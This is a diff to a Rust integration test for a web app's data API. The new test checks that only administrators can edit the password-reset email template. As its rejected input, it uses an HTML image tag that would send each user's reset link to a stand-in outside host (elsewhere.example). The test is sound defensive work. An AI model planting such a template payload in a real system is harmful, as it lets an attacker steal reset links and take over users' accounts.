@@ -411,6 +411,45 @@ async fn only_administrators_grant_administrator_power_through_the_data_api() {
         .await;
     assert_eq!(admin_email.as_deref(), Some(testkit::ADMIN_EMAIL));
 
+    // Email templates decide where reset links go: administrators' alone.
+    let templates = service_resource(&app, &admin, "email_templates").await;
+    grant(
+        &app,
+        &admin,
+        &leads,
+        &templates,
+        "update",
+        Value::Null,
+        Value::Null,
+    )
+    .await;
+    let rerouted = app
+        .patch(
+            "/api/data/svc/email_templates/reset",
+            &session,
+            json!({ "data": { "body_html": "<img src=\"https://elsewhere.example/?{{link}}\">" } }),
+        )
+        .await;
+    assert_eq!(
+        rerouted.status,
+        StatusCode::FORBIDDEN,
+        "{:?}",
+        rerouted.body
+    );
+    let by_admin_template = app
+        .patch(
+            "/api/data/svc/email_templates/reset",
+            &admin,
+            json!({ "data": { "subject": "Reset your password" } }),
+        )
+        .await;
+    assert_eq!(
+        by_admin_template.status,
+        StatusCode::OK,
+        "{:?}",
+        by_admin_template.body
+    );
+
     // An administrator still may.
     let by_admin = app
         .post(
